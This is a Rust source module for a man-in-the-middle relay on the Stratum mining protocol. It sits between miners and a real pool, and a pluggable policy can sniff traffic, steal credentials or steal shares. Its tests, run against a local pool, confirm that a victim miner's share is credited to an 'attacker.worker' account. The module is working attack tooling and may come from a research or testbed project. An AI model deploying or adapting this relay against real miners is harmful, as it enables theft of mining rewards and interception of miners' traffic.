//! Man-in-the-middle relay.
//!
//! Listens for miners and, for each one, opens a connection to the real
//! pool and runs a [`bridge`] between the two. What happens to the traffic
//! is decided entirely by the [`RelayPolicy`]: the sniffer, credential-theft
//! and share-stealing relays are the same code with different policies.

pub mod bridge;
mod correlation;
mod policy;

pub use correlation::{Correlation, CorrelationTable, IdAllocator, RELAY_AUTH_ID, RELAY_ID_BASE};
pub use policy::{Credentials, Hooks, Interception, MessageHook, RelayPolicy};

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::net::TcpListener;
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;

use crate::stats::Stats;
use crate::stratum_v1::{StratumResult, connect_with_timeout, strip_scheme};
use crate::tracing::prelude::*;

/// Relay configuration.
#[derive(Debug, Clone)]
pub struct RelayConfig {
    /// Address miners connect to
    pub listen_addr: String,

    /// Real pool, as host:port or stratum+tcp://host:port
    pub upstream_addr: String,

    /// Upper bound on opening the upstream connection for a new miner
    pub connect_timeout: Duration,
}

impl Default for RelayConfig {
    fn default() -> Self {
        Self {
            listen_addr: "0.0.0.0:3333".to_string(),
            upstream_addr: String::new(),
            connect_timeout: Duration::from_secs(10),
        }
    }
}

/// A bound, not yet running, relay.
pub struct Relay {
    listener: TcpListener,
    config: RelayConfig,
    policy: Arc<RelayPolicy>,
    stats: Arc<Stats>,
}

impl Relay {
    pub async fn bind(config: RelayConfig, policy: RelayPolicy) -> anyhow::Result<Self> {
        let listener = TcpListener::bind(&config.listen_addr).await?;
        Ok(Self {
            listener,
            config,
            policy: Arc::new(policy),
            stats: Stats::new(),
        })
    }

    pub fn local_addr(&self) -> std::io::Result<SocketAddr> {
        self.listener.local_addr()
    }

    pub fn stats(&self) -> Arc<Stats> {
        self.stats.clone()
    }

    /// Relay miners until `shutdown` is cancelled.
    ///
    /// A pair whose upstream cannot be reached is dropped on its own; the
    /// listener keeps accepting.
    pub async fn run(self, shutdown: CancellationToken) -> StratumResult<()> {
        let addr = self.listener.local_addr()?;
        let upstream = strip_scheme(&self.config.upstream_addr).to_string();
        info!(
            addr = %addr,
            upstream = %upstream,
            intercepting = self.policy.interception.is_some(),
            "Relay listening"
        );

        let tracker = TaskTracker::new();

        loop {
            tokio::select! {
                accepted = self.listener.accept() => {
                    let (miner, peer) = match accepted {
                        Ok(conn) => conn,
                        Err(e) => {
                            warn!(error = %e, "Accept failed");
                            continue;
                        }
                    };
                    info!(peer = %peer, "Miner connected");

                    let guard = self.stats.track_connection();
                    let policy = self.policy.clone();
                    let upstream = upstream.clone();
                    let timeout = self.config.connect_timeout;
                    let shutdown = shutdown.clone();

                    tracker.spawn(async move {
                        let pool = match connect_with_timeout(&upstream, timeout).await {
                            Ok(pool) => pool,
                            Err(e) => {
                                warn!(peer = %peer, upstream = %upstream, error = %e, "Upstream unreachable, dropping miner");
                                drop(guard);
                                return;
                            }
                        };

                        let (closed, result) = bridge::run(miner, pool, policy, guard, shutdown).await;
                        match result {
                            Ok(()) => info!(peer = %peer, closed_by = ?closed, "Pair closed"),
                            Err(e) => debug!(peer = %peer, closed_by = ?closed, error = %e, "Pair failed"),
                        }
                    });
                }

                _ = shutdown.cancelled() => break,
            }
        }

        tracker.close();
        tracker.wait().await;
        info!("Relay stopped");
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pool::{Pool, PoolConfig};
    use crate::stratum_v1::{ClientCommand, ClientConfig, ClientEvent, StratumClient, SubmitParams};
    use tokio::sync::mpsc;

    async fn start_pool() -> (SocketAddr, Pool) {
        let pool = Pool::bind(PoolConfig {
            bind_addr: "127.0.0.1:0".to_string(),
            ..Default::default()
        })
        .await
        .unwrap();
        (pool.local_addr().unwrap(), pool)
    }

    async fn start_relay(upstream: String, policy: RelayPolicy, shutdown: &CancellationToken) -> (SocketAddr, Arc<Stats>) {
        let relay = Relay::bind(
            RelayConfig {
                listen_addr: "127.0.0.1:0".to_string(),
                upstream_addr: upstream,
                connect_timeout: Duration::from_secs(2),
            },
            policy,
        )
        .await
        .unwrap();
        let addr = relay.local_addr().unwrap();
        let stats = relay.stats();
        tokio::spawn(relay.run(shutdown.clone()));
        (addr, stats)
    }

    async fn next_event(rx: &mut mpsc::Receiver<ClientEvent>) -> ClientEvent {
        tokio::time::timeout(Duration::from_secs(5), rx.recv())
            .await
            .unwrap()
            .unwrap()
    }

    #[tokio::test]
    async fn test_share_is_stolen_through_live_pool() {
        let shutdown = CancellationToken::new();
        let (pool_addr, pool) = start_pool().await;
        let share_log = pool.share_log();
        tokio::spawn(pool.run(shutdown.clone()));

        let attacker = Credentials {
            username: "attacker.worker".to_string(),
            password: "x".to_string(),
        };
        let (relay_addr, relay_stats) = start_relay(
            format!("stratum+tcp://{}", pool_addr),
            RelayPolicy::credential_theft(attacker),
            &shutdown,
        )
        .await;

        let (event_tx, mut event_rx) = mpsc::channel(16);
        let (cmd_tx, cmd_rx) = mpsc::channel(16);
        let client = StratumClient::with_commands(
            ClientConfig {
                url: relay_addr.to_string(),
                username: "victim.worker".to_string(),
                ..Default::default()
            },
            event_tx,
            cmd_rx,
            shutdown.clone(),
        );
        tokio::spawn(client.run());

        assert!(matches!(next_event(&mut event_rx).await, ClientEvent::Subscribed { .. }));
        assert!(matches!(next_event(&mut event_rx).await, ClientEvent::Authorized));

        cmd_tx
            .send(ClientCommand::SubmitShare(SubmitParams {
                job_id: "1".to_string(),
                extranonce2: "00000001".to_string(),
                ntime: "504e86b9".to_string(),
                nonce: "deadbeef".to_string(),
            }))
            .await
            .unwrap();

        match next_event(&mut event_rx).await {
            ClientEvent::ShareAccepted { job_id } => assert_eq!(job_id, "1"),
            other => panic!("unexpected event {:?}", other),
        }

        let shares = share_log.snapshot().await;
        assert_eq!(shares.len(), 1);
        assert_eq!(shares[0].worker_name, "attacker.worker");
        assert_eq!(relay_stats.snapshot().shares_stolen, 1);

        shutdown.cancel();
    }

    #[tokio::test]
    async fn test_sniffer_records_traffic_without_a_file() {
        use crate::append_log::{CaptureLog, LogConfig, Source};
        use crate::stratum_v1::{Connection, Message, Transport, method};
        use serde_json::json;

        let shutdown = CancellationToken::new();
        let (pool_addr, pool) = start_pool().await;
        tokio::spawn(pool.run(shutdown.clone()));

        let capture = CaptureLog::spawn(LogConfig::in_memory()).await.unwrap();
        let (relay_addr, _stats) =
            start_relay(pool_addr.to_string(), RelayPolicy::sniffer(capture.clone()), &shutdown).await;

        let mut miner = Connection::connect(&relay_addr.to_string(), Duration::from_secs(5))
            .await
            .unwrap();
        miner
            .write_message(&Message::request(1, method::SUBSCRIBE, json!(["rig.1"])))
            .await
            .unwrap();
        let reply = miner.read_message().await.unwrap().unwrap();
        assert_eq!(reply.id(), Some(1));

        let entries = capture.snapshot().await;
        assert_eq!(entries.len(), 2);
        assert_eq!(entries[0].source, Source::Miner);
        assert_eq!(entries[0].message["method"], method::SUBSCRIBE);
        assert_eq!(entries[1].source, Source::Pool);
        assert_eq!(entries[1].message["id"], 1);

        shutdown.cancel();
    }

    #[tokio::test]
    async fn test_unreachable_upstream_drops_only_that_pair() {
        let shutdown = CancellationToken::new();

        // Grab a free port and close it again so nothing is listening there
        let vacant = TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap();
        let (relay_addr, stats) = start_relay(vacant.to_string(), RelayPolicy::transparent(), &shutdown).await;

        for _ in 0..2 {
            let mut miner = tokio::net::TcpStream::connect(relay_addr).await.unwrap();
            let mut buf = [0u8; 16];
            let n = tokio::time::timeout(
                Duration::from_secs(5),
                tokio::io::AsyncReadExt::read(&mut miner, &mut buf),
            )
            .await
            .unwrap()
            .unwrap_or(0);
            assert_eq!(n, 0);
        }
        assert_eq!(stats.snapshot().active_connections, 0);

        shutdown.cancel();
    }
}
